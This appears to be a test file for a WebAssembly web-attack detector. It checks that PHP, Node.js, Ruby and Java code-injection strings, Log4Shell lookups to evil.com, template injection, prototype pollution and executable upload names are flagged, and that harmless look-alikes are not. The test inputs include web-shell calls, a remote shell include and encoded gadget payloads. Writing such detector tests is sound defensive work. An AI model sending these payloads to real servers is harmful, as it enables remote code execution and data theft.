/// <reference types="assemblyscript/std/assembly/index" />
/// <reference types="@as-pect/assembly/types/as-pect.d" />
// Server-side code injection (code.ts, reported as attack.command_injection), Log4Shell entity spellings,
// SSTI statement/Perl forms, upload names: attacks caught (incl. obfuscated ones) and look-alikes left alone.
import { AttackFindings, detectAttacks, ATTACK_COMMAND_INJECTION, ATTACK_LOG4SHELL, ATTACK_SSTI, SOURCE_JSON, SOURCE_QUERY } from "../../assembly/attack/index";
import { ByteBuf, foldCase } from "../../assembly/attack/decode";
import { bytes, levelOf } from "./attack-helpers";
import { codeInjectionLevel, uploadNameLevel } from "../../assembly/attack/code";
import { log4shellLevel } from "../../assembly/attack/log4shell";
import { sstiLevel } from "../../assembly/attack/ssti";
import { prototypePollutionLevel } from "../../assembly/attack/nosql";

function code(s: string, source: i32 = SOURCE_JSON): i32 { return levelOf(s, ATTACK_COMMAND_INJECTION, source); }
/** Raw detector level on lower-cased bytes (no decoding). */
function rawCode(s: string): i32 {
  const b = new ByteBuf();
  const src = bytes(s);
  b.copyFrom(src, 0, src.length);
  foldCase(b);
  return codeInjectionLevel(b.data, 0, b.len);
}
function l1(l: i32): bool { return l == 1; }
function notL1(l: i32): bool { return l != 1; }
function upload(key: string, v: string): i32 {
  const k = bytes(key), b = bytes(v);
  return uploadNameLevel(k, k.length, b, 0, b.length);
}

describe("PHP code injection (CRS 933)", () => {
  test("open tags and [php] tags", () => {
    expect(l1(code("<?php system($_GET['c']); ?>"))).toBe(true);
    expect(l1(code("<?= `id` ?>"))).toBe(true);
    expect(l1(code("[php]echo 'test';[/php]"))).toBe(true);
    expect(l1(code("somePhpWouldGoHere[\\php]"))).toBe(true);
    expect(l1(code("{php}echo 1;{/php}"))).toBe(true);
    expect(notL1(code("<?xml version=\"1.0\"?><a>b</a>"))).toBe(true);
    expect(notL1(code("we use php for the backend [see docs]"))).toBe(true);
  });
  test("superglobals and variable variables", () => {
    expect(l1(code("$_SERVER['HTTP_USER_AGENT']"))).toBe(true);
    expect(l1(code("x=$GLOBALS"))).toBe(true);
    expect(l1(code("${'_VAR'.'IABLE_NAME'}"))).toBe(true);
    expect(l1(code("$ {$a}"))).toBe(true);
    expect(l1(code("$      {   CONSTANT   }"))).toBe(true);
    // ${name} is also a JS/shell template placeholder
    expect(notL1(code("Price: ${price}"))).toBe(true);
    expect(notL1(code("Hello ${user.name}, welcome"))).toBe(true);
  });
  test("variable functions (933180), also with indexes and comments", () => {
    expect(l1(code("$a(1)"))).toBe(true);
    expect(l1(code("$$b(2)"))).toBe(true);
    expect(l1(code("@$__[o](4)"))).toBe(true);
    expect(l1(code("${'a'}(11)"))).toBe(true);
    expect(l1(code("$OOO000000{0}(15)"))).toBe(true);
    expect(l1(code("$_aB_4c[5]['d'] /*lol*/ (17)"))).toBe(true);
    expect(l1(code("$a //x\n()"))).toBe(true);
    expect(l1(code("$foo->$funcname()"))).toBe(true);
    expect(l1(code("Foo::$variable()"))).toBe(true);
    expect(notL1(code("I paid $5 (approx) for it"))).toBe(true);
    expect(notL1(code("Total: $price (incl. VAT)"))).toBe(true);
    expect(notL1(code("$a[]()"))).toBe(true);
    expect(notL1(code("$('#menu').hide()"))).toBe(true);
  });
  test("function calls: high-risk names, obfuscated spacing, quoted and wrapped callees", () => {
    expect(l1(code("gzinflate(base64_decode('x'))"))).toBe(true);
    expect(l1(code("FOOcall_user_func()"))).toBe(true);
    expect(l1(code("gzuncompress/*comment*/()"))).toBe(true);
    expect(l1(code("file_ExistS (\n\n)"))).toBe(true);
    expect(l1(code("fopen  (blah)"))).toBe(true);
    expect(l1(code("system(whoami)"))).toBe(true);
    expect(l1(code("(system)(whoami)"))).toBe(true);
    expect(l1(code("(\"system  \")(\"whoami\")"))).toBe(true);
    expect(l1(code("return\"system\"(xyz).s"))).toBe(true);
    expect(l1(code("os.system('ls')"))).toBe(true);
    expect(l1(code("FILE\r\n()"))).toBe(true);
    // English words that are PHP functions: prose keeps them
    expect(notL1(code("attach the file (pdf) please"))).toBe(true);
    expect(notL1(code("upload your file(s) here"))).toBe(true);
    expect(notL1(code("the operating system (Linux) crashed"))).toBe(true);
    expect(notL1(code("My system(win10) crashed"))).toBe(true);
    expect(notL1(code("use require('express') for the server"))).toBe(true);
    expect(l1(code("include('http://evil.example/shell.txt')"))).toBe(true);
    expect(l1(code("require(\"child_process\").exec('id')"))).toBe(true);
    expect(notL1(code("select count(*) from t"))).toBe(true);
    expect(notL1(code("base64_decode"))).toBe(true);
    // a PL2-listed function called is level 2
    expect(code("array_diff($a, $b)")).toBe(2);
  });
  test("callee shapes of 933210", () => {
    expect(l1(code("(sy.(st).em)('uname');"))).toBe(true);
    expect(l1(code("(string)\"sys\".\"t\".\"em\" ('uname');"))).toBe(true);
    expect(l1(code("[system][0](ls);"))).toBe(true);
    expect(l1(code("[ system ] [ 0 ] ( ls );"))).toBe(true);
    expect(l1(code("define('x', 'sys' . 'tem');(x)/* comment */('uname');"))).toBe(true);
    expect(l1(code("\"\\x73y\\x73tem\"(ls);"))).toBe(true);
    expect(notL1(code("see [the docs](https://example.com/a).", SOURCE_QUERY))).toBe(true);
    expect(notL1(code("(a) first; (b) second"))).toBe(true);
    expect(notL1(code("Meet in (room 5)(floor 2); bring snacks"))).toBe(true);
    expect(notL1(code("as shown [1](https://example.com/paper);"))).toBe(true);
    expect(l1(code("($y)('uname');"))).toBe(true);
  });
  test("php.ini directives, serialized objects, stream wrappers", () => {
    expect(l1(code("opcache.jit_max_polymorphic_calls=50"))).toBe(true);
    expect(l1(code("memory_limit = 512M"))).toBe(true);
    expect(l1(code("engine=true"))).toBe(true);
    expect(l1(code("allow_url_include=On\nauto_prepend_file=x"))).toBe(true);
    expect(notL1(code("https://example.com/search?engine=google&q=x"))).toBe(true);
    expect(notL1(code("the engine = the heart of the car"))).toBe(true);
    expect(notL1(code("memory_limit"))).toBe(true);
    expect(notL1(code("extension=pdf"))).toBe(true);
    expect(l1(code("extension=/tmp/evil.so"))).toBe(true);
    expect(notL1(code("passwords hashed with MD5 (insecure) are weak"))).toBe(true);
    expect(l1(code("md5($_x)"))).toBe(true);
    expect(l1(code("O:8:\"stdClass\":1:{s:1:\"a\";i:2;}"))).toBe(true);
    expect(l1(code("_|O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{S:6:\"socket\";}"))).toBe(true);
    expect(notL1(code("O:8 is my seat; a:1 is yours"))).toBe(true);
    expect(l1(code("compress.zlib://http://x/y.gz"))).toBe(true);
    expect(l1(code("ssh2.exec://user:pw@host:22/usr/bin/id"))).toBe(true);
    expect(l1(code("zip://archive.zip#shell.php"))).toBe(true);
    expect(notL1(code("download archive.zip and glob the files"))).toBe(true);
  });
});

describe("Node.js / Ruby code injection (CRS 934)", () => {
  test("runtime objects, console calls, constructor chains", () => {
    expect(l1(code("process.env"))).toBe(true);
    expect(l1(code("process[\"env\"]"))).toBe(true);
    expect(l1(code("require[req.query.a"))).toBe(true);
    expect(l1(code("console.info(1)"))).toBe(true);
    expect(l1(code("c\\u006fnsole.info(1)"))).toBe(true);
    expect(l1(code("console[\"info\"](1)"))).toBe(true);
    expect(l1(code("console.info.call(this,1)"))).toBe(true);
    expect(l1(code("eval(String.fromCharCode"))).toBe(true);
    expect(l1(code("this.constructor.constructor('return process')()"))).toBe(true);
    expect(l1(code("{\"get\":\"$3:constructor:constructor\"}"))).toBe(true);
    expect(l1(code("{\"0\":\"$7:Module:prototype\"}"))).toBe(true);
    expect(l1(code("_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"))).toBe(true);
    expect(l1(code("XyQkTkRfRlVOQyQkXwo="))).toBe(true); // base64 of the node-serialize marker
    expect(l1(code("Process.spawn(\"id\")"))).toBe(true);
    expect(l1(code("IO.popen('id')"))).toBe(true);
    expect(notL1(code("we process the data and log it to the console"))).toBe(true);
    expect(notL1(code("console.log"))).toBe(true);
    expect(notL1(code("the process. Env vars are next"))).toBe(true);
  });
  test("endless loops (934160)", () => {
    expect(l1(code("while(true);"))).toBe(true);
    expect(l1(code("while(!-0);"))).toBe(true);
    expect(l1(code("while(-Infinity);"))).toBe(true);
    expect(l1(code("while(new Date);"))).toBe(true);
    expect(l1(code("while(!![]);"))).toBe(true);
    expect(l1(code("while(!!'');"))).toBe(true);
    expect(notL1(code("while (this is done) we wait"))).toBe(true);
    expect(notL1(code("while(i < 10) i++;"))).toBe(true);
    expect(notL1(code("while (true) love wins"))).toBe(true);
  });
  test("data: URLs as the whole value (934170)", () => {
    expect(l1(code("data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+"))).toBe(true);
    expect(l1(code("data://text/plain,<?php phpinfo()?>"))).toBe(true);
    expect(notL1(rawCode("data:image/png;base64,iVBORw0KGgo="))).toBe(true);
    expect(notL1(rawCode("data:application/json;charset=utf-8;base64,eyJ2ZXJzaW9uIjozfQ=="))).toBe(true);
    expect(l1(rawCode("data:application/x-httpd-php;base64,PD9waHA="))).toBe(true);
    expect(notL1(code("more data: text/plain is fine"))).toBe(true);
  });
});

describe("Java (CRS 944)", () => {
  test("classes and packages, gadget chains, serialized streams", () => {
    expect(l1(code("java.Runtime"))).toBe(true);
    expect(l1(code("com.opensymphony.xwork2"))).toBe(true);
    expect(l1(code("org.apache.commons.collections.functors.InvokerTransformer"))).toBe(true);
    expect(l1(code("org.omg.CORBA"))).toBe(true);
    expect(l1(code("java.io.FileInputStream"))).toBe(true);
    expect(l1(code("#a=@java.lang.Runtime@getRuntime().exec('id')"))).toBe(true);
    expect(l1(code("new ProcessBuilder(\"id\").start()"))).toBe(true);
    expect(l1(code("x.getClass().getClassLoader()"))).toBe(true);
    expect(l1(code("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ"))).toBe(true);
    expect(rawCode("KztAAU")).toBe(2);
    // gadget names base64-encoded (944300, level 3), at any alignment
    expect(rawCode("cnVudGltZQ")).toBe(3);
    // require("child_process")… base64-encoded in a cookie (934101, level 2)
    expect(rawCode("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoJ3dob2FtaScpCg==")).toBe(2);
    expect(rawCode("token=eyJhbGciOiJIUzI1NiJ9.aW52b2tlcnRyYW5zZm9ybWVy")).toBe(3);
    expect(rawCode("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U")).toBe(0);
    expect(notL1(code("I love java and coffee"))).toBe(true);
    expect(notL1(code("com.example.myapp"))).toBe(true);
    expect(notL1(code("java.com is the download site"))).toBe(true);
    expect(notL1(code("the runtime was 5 minutes"))).toBe(true);
    expect(notL1(code("see java.com; the runtime is slow"))).toBe(true);
    expect(code("ProcessBuilder is a class")).toBe(2);
  });
});

describe("Log4Shell entity spellings, SSTI statements", () => {
  test("brace and dollar entities the decoder does not know", () => {
    expect(levelOf("$&lbrace;jndi:ldap://evil.com/x}", ATTACK_LOG4SHELL)).toBe(1);
    expect(levelOf("$&LBRACE;jndi:ldap://evil.com/x}", ATTACK_LOG4SHELL)).toBe(1);
    expect(levelOf("$&lbracejndi:ldap://evil.com/x}", ATTACK_LOG4SHELL)).toBe(1);
    expect(levelOf("&dollar;&lcub;jndi:rmi://x/y}", ATTACK_LOG4SHELL)).toBe(1);
    expect(levelOf("$&#0000123;jndi:ldap://evil/w}", ATTACK_LOG4SHELL)).toBe(1);
    expect(levelOf("Tom &amp; Jerry &lbrace;cartoon&rbrace;", ATTACK_LOG4SHELL)).toBe(0);
    const b = bytes("a &lbrace; b");
    expect(log4shellLevel(b, 0, b.length)).toBe(0);
  });
  test("Perl interpolation and template statements are level 2", () => {
    expect(levelOf("@{[rand 100]}", ATTACK_SSTI)).toBe(2);
    expect(levelOf("{% if True %}49{% endif %}", ATTACK_SSTI)).toBe(2);
    expect(levelOf("mail me @ {home}", ATTACK_SSTI)).toBe(0);
    const b = bytes("100% {sure}");
    expect(sstiLevel(b, 0, b.length)).toBe(0);
  });
});

describe("upload names (933110, 933220, 944140; for the integrator to wire)", () => {
  test("executable extensions and session files in upload-name fields only", () => {
    expect(upload("x-filename", "a.php")).toBe(1);
    expect(upload("x_filename", "fda.php5...")).toBe(1);
    expect(upload("x-file-name", "photo. php")).toBe(1);
    expect(upload("x.filename", "dangerous.phar ")).toBe(1);
    expect(upload("x-filename", "shell.jspx.")).toBe(1);
    expect(upload("filename", "/tmp/sess_d8ew88tqmabdcokhumchy8htqm")).toBe(1);
    expect(upload("x-filename", "photo.png")).toBe(0);
    expect(upload("x-filename", "php-guide.pdf")).toBe(0);
    expect(upload("x-filename", "sess_short")).toBe(0);
    expect(upload("page", "index.php")).toBe(0);
    expect(upload("filename", "test. php.jpg")).toBe(3);
    expect(upload("x-filename", "test.phar .png")).toBe(3);
    expect(upload("x-filename", "photo.jpg.png")).toBe(0);
  });
});

describe("robustness", () => {
  test("never traps on truncated shapes and random bytes", () => {
    const shapes = ["$", "${", "$a[", "$a(", "<?", "[php", "o:", "o:1:\"", "while(", "while(!", "function(", "java.", ")(", "\"x\"(", "data:", "&#x", "$&lbrace", "@{["];
    for (let i = 0; i < shapes.length; i++) { rawCode(shapes[i]); code(shapes[i]); levelOf(shapes[i], ATTACK_LOG4SHELL); }
    let seed: u32 = 12345;
    const buf = new Uint8Array(300);
    for (let r = 0; r < 300; r++) {
      for (let i = 0; i < buf.length; i++) { seed = seed * 1103515245 + 12345; buf[i] = <u8>("$()[]{}'\"<?;:.a_oj\\/#*!".charCodeAt((seed >> 16) % 24)); }
      const n = <i32>((seed >> 8) % 300);
      codeInjectionLevel(buf, 0, n);
      log4shellLevel(buf, 0, n);
      codeInjectionLevel(buf, n, 10000);
      codeInjectionLevel(buf, -7, n);
      uploadNameLevel(buf, 400, buf, -3, n);
    }
    expect(true).toBe(true);
  });
});

describe("prototype pollution (934130)", () => {
  test("path segments and constructor.prototype, also spaced and after a prose mention", () => {
    const k = new Uint8Array(0);
    const v1 = bytes("a[__proto__][admin]=1");
    expect(prototypePollutionLevel(k, 0, v1, 0, v1.length)).toBe(1);
    const v2 = bytes("constructor [ \"prototype\" ] [polluted]");
    expect(prototypePollutionLevel(k, 0, v2, 0, v2.length)).toBe(1);
    const v3 = bytes("the constructor runs first; x.constructor.prototype.y=1");
    expect(prototypePollutionLevel(k, 0, v3, 0, v3.length)).toBe(1);
    const v4 = bytes("docs about __proto__ objects then a[__proto__]=1");
    expect(prototypePollutionLevel(k, 0, v4, 0, v4.length)).toBe(1);
    const v5 = bytes("the constructor sets up the prototype chain");
    expect(prototypePollutionLevel(k, 0, v5, 0, v5.length)).toBe(0);
    const key = bytes("user.__proto__.isadmin");
    const v6 = bytes("true");
    expect(prototypePollutionLevel(key, key.length, v6, 0, v6.length)).toBe(1);
  });
});
